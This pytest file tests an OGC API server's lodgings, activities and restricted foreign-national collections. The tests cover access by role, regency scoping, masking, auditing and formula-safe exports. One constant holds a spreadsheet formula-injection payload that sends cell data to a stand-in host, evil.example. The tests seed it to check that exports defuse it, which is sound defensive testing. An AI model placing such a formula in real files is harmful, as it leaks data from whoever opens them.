"""OGC API collections of issue 17 on the seeded data (tests/seed_foreign.py): lodgings, monitoring
activities and foreign_nationals (personal roles only), with scope, bbox, paging, CQL2, `datetime`,
scoped extents, masking, and their exports (formula-injection safe)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import httpx
import openpyxl
import psycopg2
import pytest

from geo import clock
from tests.seed import seed

pytestmark = pytest.mark.slow  # a seeded database and a server of its own

HOSTILE_LODGING = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HOSTILE_FINDINGS = "@SUM(1+1) dan -2+3 dicatat"


@pytest.fixture(scope="module")
def site(server_url, template_db):
    """The seeded data in a database of its own (the tests add hostile rows), with a server."""
    data = seed(server_url, template_db)
    conn = psycopg2.connect(data.url)
    with conn, conn.cursor() as cur:
        cur.execute("""INSERT INTO lodgings (name, address, village_code)
                       SELECT %s, '+62 811 000', code FROM boundaries
                        WHERE level = 'village' AND parent_code = '62.71.02' ORDER BY code LIMIT 1""",
                    (HOSTILE_LODGING,))
        cur.execute("""INSERT INTO monitoring_activities (held_on, kind, district_code, agencies, targets, findings,
                                                          follow_up, agency)
                       VALUES (current_date - 5, 'sosialisasi', '62.71.02', '{kesbangpol}', 'warga asing',
                               %s, '=1+1', 'kesbangpol')""", (HOSTILE_FINDINGS,))
        # The 62.02 operation also targeted Palangka Raya's company: outside a 62.02 user's scope.
        cur.execute("""INSERT INTO activity_company_targets (activity_id, company_id)
                       SELECT a.id, c.id FROM monitoring_activities a, companies c
                        WHERE a.kind = 'operasi_gabungan' AND c.nib = '6271000000001'""")
    conn.close()
    yield data
    data.close()


@pytest.fixture(scope="module")
def client(site):
    with httpx.Client(base_url=site.server.base + "/api", timeout=120) as c:
        yield c


def get(client, site, path, role="admin", regencies=None, **params) -> httpx.Response:
    return client.get(path, params=params, headers=site.headers(role, regencies))


def features(client, site, collection, role="admin", regencies=None, **params) -> list[dict]:
    """Every feature, following next links."""
    r = get(client, site, f"/collections/{collection}/items", role, regencies, **params)
    out = []
    while True:
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["numberReturned"] == len(body["features"])
        out += body["features"]
        nxt = [link["href"] for link in body["links"] if link["rel"] == "next"]
        if not nxt:
            return out
        r = client.get(nxt[0], headers=site.headers(role, regencies))


def present_ids(site, regency=None, day=None) -> list[int]:
    rows = site.query("SELECT foreign_national_id FROM foreign_nationals_present(%s) "
                      "WHERE %s::text IS NULL OR regency_code = %s ORDER BY 1", (day or clock.today(), regency, regency))
    return [r[0] for r in rows]


def person_id(site, passport) -> int:
    return site.query("SELECT id FROM foreign_nationals WHERE passport_number = %s", (passport,))[0][0]


# --- the collection list and the personal collection ------------------------------------------------
def test_collections_listed_by_role(client, site):
    admin = [c["id"] for c in get(client, site, "/collections").json()["collections"]]
    assert {"lodgings", "activities", "foreign_nationals"} <= set(admin)
    for role in ("viewer",):
        ids = [c["id"] for c in get(client, site, "/collections", role).json()["collections"]]
        assert "foreign_nationals" not in ids and {"lodgings", "activities"} <= set(ids)
    for role in ("analyst", "editor"):
        assert "foreign_nationals" in [c["id"] for c in get(client, site, "/collections", role).json()["collections"]]


@pytest.mark.parametrize("suffix", ["", "/items", "/queryables", "/items/1", "/items?f=csv"])
def test_foreign_nationals_is_unknown_to_a_viewer(client, site, suffix):
    """404 with the very answer an unknown name gets (the name aside): nothing says it exists."""
    mine = get(client, site, f"/collections/foreign_nationals{suffix}", "viewer")
    unknown = get(client, site, f"/collections/no_such_thing{suffix}", "viewer")
    assert mine.status_code == unknown.status_code == 404
    assert mine.text.replace("foreign_nationals", "X") == unknown.text.replace("no_such_thing", "X")
    assert "foreign_nationals" not in unknown.text  # not among the known ones either
    assert not any(s in mine.text for s in site.secrets)


def test_openapi_document_does_not_name_the_personal_collection(client, site):
    assert "/collections/foreign_nationals/items" not in client.get("/openapi-ogc.json").json()["paths"]
    assert "/collections/lodgings/items" in client.get("/openapi-ogc.json").json()["paths"]


def test_analyst_lists_the_persons_present_today_and_the_read_is_audited(client, site):
    before = site.query("SELECT count(*) FROM audit_log WHERE action = 'personal.read'")[0][0]
    got = features(client, site, "foreign_nationals", "analyst", limit=3)
    assert sorted(f["id"] for f in got) == present_ids(site)
    assert len(got) == 9
    by_passport = {f["properties"]["passport_number"]: f for f in got}
    john = by_passport["FN5500102"]["properties"]
    assert john["full_name"] == "JOHN PRIVATESMITH" and john["source"] == "stay" and john["purpose"] == "keagamaan"
    assert john["permit_number"] == "ITAPF5500102" and john["location_source"] == "reported"
    assert by_passport["FN5500106"]["properties"]["source"] == "lodging"
    assert by_passport["FN5500106"]["properties"]["lodging_name"] == "Hotel Kahayan Seed"
    kim = by_passport["MK6611004"]["properties"]
    assert kim["source"] == "worker" and kim["permit_number"] == "ITASQ6611004" and kim["sponsor_nib"] == "6271000000001"
    assert by_passport["FN5500104"]["properties"]["sponsor_nib"] == "6202000000001"
    # The residence point is the stay's (reported) point.
    x, y = site.query("SELECT ST_X(s.geom), ST_Y(s.geom) FROM foreign_national_stays s JOIN foreign_nationals p "
                      "ON p.id = s.foreign_national_id WHERE p.passport_number = 'FN5500102'")[0]
    gx, gy = by_passport["FN5500102"]["geometry"]["coordinates"]
    assert abs(gx - x) < 1e-6 and abs(gy - y) < 1e-6
    after = site.query("SELECT count(*) FROM audit_log WHERE action = 'personal.read'")[0][0]
    assert after >= before + 3  # one per page read
    details = site.query("SELECT detail::text, target FROM audit_log WHERE action = 'personal.read' ORDER BY id DESC LIMIT 3")
    assert all(t == "collection:foreign_nationals" for _, t in details)
    assert not any(s in d for d, _ in details for s in site.secrets)


def test_one_person_and_the_day_parameter(client, site):
    john = person_id(site, "FN5500102")
    r = get(client, site, f"/collections/foreign_nationals/items/{john}", "editor")
    assert r.status_code == 200 and r.json()["properties"]["passport_number"] == "FN5500102"
    assert r.headers["cache-control"] == "no-store"
    # SATO's visit ended five days ago: absent today, present ten days ago.
    sato = person_id(site, "FN5500105")
    assert get(client, site, f"/collections/foreign_nationals/items/{sato}", "analyst").status_code == 404
    earlier = (clock.today() - timedelta(days=10)).isoformat()
    then = features(client, site, "foreign_nationals", "analyst", datetime=earlier)
    assert sorted(f["id"] for f in then) == present_ids(site, day=date.fromisoformat(earlier))
    assert sato in [f["id"] for f in then] and {f["properties"]["present_on"] for f in then} == {earlier}
    r = get(client, site, "/collections/foreign_nationals/items", "analyst", datetime=f"{earlier}/..")
    assert r.status_code == 400 and "datetime" in r.text


def test_scoped_analyst_sees_only_the_regency(client, site):
    got = features(client, site, "foreign_nationals", "analyst", ["62.02"])
    assert sorted(f["id"] for f in got) == present_ids(site, "62.02") and len(got) == 5
    john = person_id(site, "FN5500102")  # lives in 62.71
    inside = get(client, site, f"/collections/foreign_nationals/items/{john}", "analyst", ["62.02"])
    absent = get(client, site, "/collections/foreign_nationals/items/99999999", "analyst", ["62.02"])
    assert inside.status_code == absent.status_code == 404
    assert inside.text.replace(str(john), "N") == absent.text.replace("99999999", "N")


def test_filters_on_persons(client, site):
    cn = features(client, site, "foreign_nationals", "analyst", nationality="CN")
    assert sorted(f["properties"]["passport_number"] for f in cn) == ["EL7711003", "EZ9911001", "FN5500104"]
    studi = features(client, site, "foreign_nationals", "analyst", filter="purpose IN ('studi', 'keagamaan')")
    assert sorted(f["properties"]["passport_number"] for f in studi) == ["FN5500101", "FN5500102"]
    eq = features(client, site, "foreign_nationals", "analyst", source="lodging")
    assert [f["properties"]["passport_number"] for f in eq] == ["FN5500106"]
    # Names and numbers are not queryable: they would travel in URLs.
    r = get(client, site, "/collections/foreign_nationals/items", "analyst", filter="full_name LIKE 'JOHN%'")
    assert r.status_code == 400
    assert "full_name" not in get(client, site, "/collections/foreign_nationals/queryables", "analyst").json()["properties"]


# --- lodgings --------------------------------------------------------------------------------------
def test_lodgings_with_guest_counts(client, site):
    got = {f["properties"]["name"]: f for f in features(client, site, "lodgings", "analyst")}
    assert got["Hotel Kahayan Seed"]["properties"]["guests_today"] == 2  # JOHN, TAN (LIM left 55 days ago)
    assert got["Hotel Kahayan Seed"]["properties"]["guests_30d"] == 2
    assert got["Losmen Mentaya Seed"]["properties"]["guests_today"] == 1
    hotel = got["Hotel Kahayan Seed"]["properties"]
    assert hotel["regency_code"] == "62.71" and hotel["regency_name"] and hotel["village_name"]
    long_ago = (clock.today() - timedelta(days=57)).isoformat()
    then = {f["properties"]["name"]: f["properties"] for f in features(client, site, "lodgings", "analyst", datetime=long_ago)}
    assert then["Hotel Kahayan Seed"]["guests_today"] == 1  # LIM
    scoped = features(client, site, "lodgings", "viewer", ["62.02"])
    assert [f["properties"]["name"] for f in scoped] == ["Losmen Mentaya Seed"]
    hotel_id = got["Hotel Kahayan Seed"]["id"]
    assert get(client, site, f"/collections/lodgings/items/{hotel_id}", "viewer", ["62.02"]).status_code == 404
    assert get(client, site, f"/collections/lodgings/items/{hotel_id}", "viewer").status_code == 200


def test_lodgings_bbox_paging_cql2_and_sorting(client, site):
    everything = features(client, site, "lodgings", "analyst", limit=1, sortby="-name")
    names = [f["properties"]["name"] for f in everything]
    assert len(names) == 3 and names == sorted(names, reverse=True)
    x, y = next(f for f in everything if f["properties"]["name"] == "Losmen Mentaya Seed")["geometry"]["coordinates"]
    boxed = features(client, site, "lodgings", "viewer", bbox=f"{x - 0.01},{y - 0.01},{x + 0.01},{y + 0.01}")
    assert [f["properties"]["name"] for f in boxed] == ["Losmen Mentaya Seed"]
    busy = features(client, site, "lodgings", "analyst", filter="guests_today >= 2 AND regency_code = '62.71'")
    assert [f["properties"]["name"] for f in busy] == ["Hotel Kahayan Seed"]
    r = get(client, site, "/collections/lodgings/items", "viewer", sector="jasa")
    assert r.status_code == 400 and "sector" in r.text


def lodging_rows(client, site, role, **params) -> dict[str, dict]:
    """Each lodging's properties by name, every feature of the collection for `role`."""
    return {f["properties"]["name"]: f["properties"] for f in features(client, site, "lodgings", role, **params)}


def test_small_guest_counts_are_hidden_from_a_viewer_as_on_the_map(client, site):
    # The analyst first, then the viewer on the very same URL: the cached analyst page must not reach them.
    exact = lodging_rows(client, site, "analyst", limit=7)
    viewer = lodging_rows(client, site, "viewer", limit=7)
    assert exact["Hotel Kahayan Seed"]["guests_today"] == exact["Hotel Kahayan Seed"]["guests_30d"] == 2
    assert exact["Losmen Mentaya Seed"]["guests_today"] == 1
    hotel = viewer["Hotel Kahayan Seed"]
    assert "guests_today" in hotel and hotel["guests_today"] is None and hotel["guests_30d"] is None
    assert viewer["Losmen Mentaya Seed"]["guests_today"] is None
    assert viewer[HOSTILE_LODGING]["guests_today"] == 0  # zero discloses nobody: still an integer
    assert lodging_rows(client, site, "analyst", limit=7)["Hotel Kahayan Seed"]["guests_today"] == 2  # and back
    hotel_id = next(f["id"] for f in features(client, site, "lodgings", "viewer") if f["properties"]["name"] ==
                    "Hotel Kahayan Seed")
    item = get(client, site, f"/collections/lodgings/items/{hotel_id}", "viewer").json()["properties"]
    assert item["guests_today"] is None and item["guests_30d"] is None
    assert get(client, site, f"/collections/lodgings/items/{hotel_id}", "analyst").json()["properties"]["guests_today"] == 2
    for role, want in (("viewer", ("", "")), ("analyst", ("2", "2"))):
        text = get(client, site, "/collections/lodgings/items", role, f="csv").text
        row = next(r for r in csv.DictReader(io.StringIO(text)) if r["name"] == "Hotel Kahayan Seed")
        assert (row["guests_today"], row["guests_30d"]) == want, role
    doc = get(client, site, "/collections/lodgings", "viewer").json()
    assert "null" in doc["description"] and "null" not in get(client, site, "/collections/lodgings", "analyst").json()[
        "description"]
    assert "guests_today" not in get(client, site, "/collections/lodgings/queryables", "viewer").json()["properties"]
    assert "guests_today" in get(client, site, "/collections/lodgings/queryables", "analyst").json()["properties"]


@pytest.mark.parametrize(("name", "params"), [
    ("guests_today", {"filter": "guests_today = 2"}),
    ("guests_today", {"filter": "guests_today BETWEEN 1 AND 2"}),
    ("guests_30d", {"filter": "regency_code = '62.71' AND guests_30d < 3"}),
    ("guests_today", {"guests_today": "2"}),
    ("guests_30d", {"guests_30d": "1"}),
    ("guests_today", {"sortby": "-guests_today"}),
    ("guests_30d", {"sortby": "guests_30d"}),
])
def test_a_viewer_cannot_filter_or_sort_on_guest_counts(client, site, name, params):
    r = get(client, site, "/collections/lodgings/items", "viewer", **params)
    assert r.status_code == 400 and name in r.text, r.text
    assert get(client, site, "/collections/lodgings/items", "analyst", **params).status_code == 200


def export_guests(client, site, role, fmt) -> dict[str, tuple]:
    """(tamu_hari_ini, tamu_30_hari) per lodging name of the lodgings export; empty cells as None."""
    body = get(client, site, "/exports/lodgings", role, format=fmt).content
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    elif fmt == "xlsx":
        table = list(openpyxl.load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True))
        head = next(i for i, row in enumerate(table) if "tamu_hari_ini" in row)
        rows = [dict(zip(table[head], row, strict=True)) for row in table[head + 1:]]
    else:
        rows = [f["properties"] for f in json.loads(body)["features"]]

    def value(v):
        return None if v in ("", None) else v

    # Names as written (a spreadsheet's file defuses the hostile one with a leading apostrophe).
    return {r["nama_penginapan"].removeprefix("'"): (value(r["tamu_hari_ini"]), value(r["tamu_30_hari"])) for r in rows}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson"])
def test_lodging_exports_hide_small_guest_counts_from_a_viewer(client, site, fmt):
    viewer = export_guests(client, site, "viewer", fmt)
    assert viewer["Hotel Kahayan Seed"] == (None, None) and viewer["Losmen Mentaya Seed"][0] is None
    assert [str(v) for v in viewer[HOSTILE_LODGING]] == ["0", "0"]  # an integer, not 0.0
    exact = export_guests(client, site, "analyst", fmt)
    assert [str(v) for v in exact["Hotel Kahayan Seed"]] == ["2", "2"]
    assert str(exact["Losmen Mentaya Seed"][0]) == "1"


# --- activities ------------------------------------------------------------------------------------
def test_activities_masked_for_a_viewer_only(client, site):
    def rapat(role):
        feats = features(client, site, "activities", role, kind="rapat")
        assert len(feats) == 1
        return feats[0]

    viewer, analyst = rapat("viewer")["properties"], rapat("analyst")["properties"]
    assert analyst["targets"] == "PT Jasa Palangka Raya; OLIVIA PRIVATEWALKER"
    assert "OLIVIA" not in viewer["targets"] and "PRIVATEWALKER" not in viewer["targets"]
    assert viewer["targets"].startswith("PT Jasa Palangka Raya; [disamarkan]")
    assert viewer["kind_label"] == "Rapat koordinasi" and viewer["agencies"] == ["imigrasi", "kesbangpol"]
    assert viewer["target_nibs"] == ["6271000000001"]
    one = get(client, site, f"/collections/activities/items/{rapat('viewer')['id']}", "viewer")
    assert "OLIVIA" not in one.text and "[disamarkan]" in one.text
    csv_text = get(client, site, "/collections/activities/items", "viewer", f="csv").text
    assert "OLIVIA" not in csv_text and "PRIVATEWALKER" not in csv_text
    # The free text cannot be probed with a filter either.
    r = get(client, site, "/collections/activities/items", "viewer", filter="targets LIKE '%OLIVIA%'")
    assert r.status_code == 400


def test_activities_scope_period_and_point(client, site):
    scoped = features(client, site, "activities", "viewer", ["62.02"])
    assert [f["properties"]["kind"] for f in scoped] == ["operasi_gabungan"]
    all_ = features(client, site, "activities", "viewer")
    rapat_id = next(f["id"] for f in all_ if f["properties"]["kind"] == "rapat")
    assert get(client, site, f"/collections/activities/items/{rapat_id}", "viewer", ["62.02"]).status_code == 404
    since = (clock.today() - timedelta(days=30)).isoformat()
    recent = features(client, site, "activities", "viewer", datetime=f"{since}/..")
    assert sorted(f["properties"]["kind"] for f in recent) == ["rapat", "sosialisasi"]
    x, y = site.query("SELECT ST_X(label_point), ST_Y(label_point) FROM boundaries WHERE code = '62.71.01'")[0]
    rapat = next(f for f in all_ if f["id"] == rapat_id)
    assert rapat["geometry"]["coordinates"] == pytest.approx([x, y], abs=1e-6)


def test_a_target_company_outside_the_scope_is_not_named(client, site):
    def nibs(regencies):
        (f,) = features(client, site, "activities", "viewer", regencies, kind="operasi_gabungan")
        return f["properties"]["target_nibs"]

    assert nibs(None) == ["6202000000001", "6271000000001"]
    assert nibs(["62.02"]) == ["6202000000001"]
    text = get(client, site, "/exports/activities", "viewer", ["62.02"], format="csv").text
    assert "6271000000001" not in text and "6202000000001" in text


def test_extents_are_scoped(client, site):
    province = get(client, site, "/collections/lodgings", "viewer").json()["extent"]["spatial"]["bbox"][0]
    scoped = get(client, site, "/collections/lodgings", "viewer", ["62.02"]).json()["extent"]["spatial"]["bbox"][0]
    assert scoped != province
    assert province[0] <= scoped[0] and scoped[2] <= province[2]
    temporal = get(client, site, "/collections/activities", "viewer", ["62.02"]).json()["extent"]["temporal"]["interval"][0]
    held = site.query("SELECT held_on FROM monitoring_activities WHERE regency_code = '62.02'")[0][0].isoformat()
    assert temporal == [held, held]


# --- exports ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson", "gpkg", "kml"])
@pytest.mark.parametrize("kind", ["lodgings", "activities"])
def test_exports_of_the_new_kinds(client, site, kind, fmt):
    r = get(client, site, f"/exports/{kind}", "viewer", format=fmt)
    assert r.status_code == 200, r.text
    assert r.headers["x-row-count"] == "3"  # two seeded and one hostile row of each
    assert "OLIVIA" not in r.content.decode("utf-8", "replace")
    scoped = get(client, site, f"/exports/{kind}", "viewer", ["62.02"], format=fmt)
    assert scoped.headers["x-row-count"] == "1"


def test_exports_cannot_run_formulas(client, site):
    text = get(client, site, "/exports/lodgings", "viewer", format="csv").content.decode("utf-8-sig")
    assert "'" + HOSTILE_LODGING.replace('"', '""') in text and ',"=HYPERLINK' not in text
    acts = get(client, site, "/exports/activities", "viewer", format="csv").content.decode("utf-8-sig")
    assert "'@SUM(1+1)" in acts and "'=1+1" in acts
    book = openpyxl.load_workbook(io.BytesIO(get(client, site, "/exports/lodgings", "viewer", format="xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == HOSTILE_LODGING]
    assert cells and all(c.data_type == "s" for c in cells)
    feats = get(client, site, "/collections/lodgings/items", "viewer", f="csv").text
    assert "'" + HOSTILE_LODGING.replace('"', '""') in feats


def test_foreign_nationals_export_only_for_personal_roles(client, site):
    assert get(client, site, "/exports/foreign_nationals", "viewer", format="csv").status_code == 403
    r = get(client, site, "/exports/foreign_nationals", "analyst", ["62.71"], format="csv")
    assert r.status_code == 200 and r.headers["x-row-count"] == "4"
    assert "FN5500102" in r.text and "EZ9911001" not in r.text
    row = next(line for line in r.text.splitlines() if "FN5500102" in line)
    x, y = site.query("SELECT round(ST_X(s.geom)::numeric, 6), round(ST_Y(s.geom)::numeric, 6) "
                      "FROM foreign_national_stays s JOIN foreign_nationals p ON p.id = s.foreign_national_id "
                      "WHERE p.passport_number = 'FN5500102'")[0]
    assert f",{float(y)},{float(x)}," in row  # latitude, longitude: the reported point
    audit = site.query("SELECT detail FROM audit_log WHERE action = 'personal.export' ORDER BY id DESC LIMIT 1")[0][0]
    assert audit["rows"] == 4
    geo = json.loads(get(client, site, "/exports/foreign_nationals", "admin", format="geojson").content)
    assert len(geo["features"]) == 9
    bad = get(client, site, "/exports/lodgings", "viewer", sector="jasa")
    assert bad.status_code == 400 and "sector" in bad.text


def test_pantau_export_of_the_new_kinds(site, tmp_path):
    from tests.importutil import pantau

    out = tmp_path / "kegiatan.csv"
    done = pantau("export", "activities", "--format", "csv", "--out", out, "--regency", "62.71", database_url=site.url)
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8-sig")
    assert "tanggal,jenis_kegiatan,kode_kecamatan,instansi,nib_sasaran,sasaran,temuan,tindak_lanjut" in text
    assert "OLIVIA" not in text and "'@SUM(1+1)" in text  # masked without --personal, formulas defused
    refused = pantau("export", "foreign_nationals", "--format", "csv", "--out", tmp_path / "x.csv", database_url=site.url)
    assert refused.returncode != 0 and "--personal" in refused.stdout + refused.stderr
    people = tmp_path / "orang_asing.xlsx"
    assert pantau("export", "foreign_nationals", "--format", "xlsx", "--out", people, "--personal",
                  database_url=site.url).returncode == 0
    rows = list(openpyxl.load_workbook(people).active.iter_rows(values_only=True))
    assert len(rows) == 1 + 9 and rows[0][:3] == ("nomor_paspor", "kewarganegaraan", "nama_lengkap")
